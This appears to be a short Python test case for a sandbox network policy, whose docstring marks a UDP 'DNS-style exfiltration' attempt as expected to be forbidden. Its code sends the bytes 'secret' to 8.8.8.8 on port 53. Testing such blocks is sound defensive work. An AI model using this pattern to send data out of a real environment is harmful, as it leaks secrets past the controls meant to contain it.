"""Send a UDP datagram (DNS-style exfiltration). Expected: forbidden."""
import socket

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
result = sock.sendto(b"secret", ("8.8.8.8", 53))
